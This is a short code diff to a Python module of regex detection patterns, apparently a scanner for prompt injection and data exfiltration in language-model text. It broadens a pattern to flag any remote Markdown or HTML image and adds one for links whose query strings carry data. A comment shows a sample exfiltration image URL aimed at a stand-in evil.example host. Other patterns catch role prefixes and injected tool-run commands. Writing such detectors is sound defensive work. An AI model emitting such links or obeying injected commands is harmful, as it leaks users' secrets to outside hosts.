@@ -42,8 +42,15 @@ PATTERNS: dict[str, re.Pattern[str]] = {
         re.I,
     ),
     "role_prefix": re.compile(r"(?m)^\s*#{0,3}\s*(system|assistant)\s*:\s*\S"),
+    # A remote image is fetched by the browser the moment an answer is rendered: any remote Markdown or HTML image
+    # is an exfiltration channel, whatever its URL says (`![logo](https://evil.example/collect?q=SECRET)`).
     "exfiltration_link": re.compile(
-        r"!\[[^\]]*\]\(\s*https?://[^)\s]*(\{|%7B|\?[^)\s]*=\s*[\[{<])", re.I
+        r"!\[[^\]]*\]\(\s*<?\s*(https?:)?//|<img\b[^>]*\bsrc\s*=\s*[\"']?\s*(https?:)?//", re.I
+    ),
+    # A link that carries data out in its query string (`[docs](https://x.example/c?d=...)`), Markdown or HTML.
+    "link_with_query": re.compile(
+        r"\]\(\s*<?\s*(https?:)?//[^)\s]*\?[^)\s]*=|<a\b[^>]*\bhref\s*=\s*[\"']?\s*(https?:)?//[^\s\"'>]*\?[^\s\"'>]*=",
+        re.I,
     ),
     "tool_or_command": re.compile(
         r"\b(call|invoke|execute|run)\b[\w\s]{0,20}\b(the )?(tool|function|shell|command)\b[^.]{0,40}\b(now|immediately)\b",
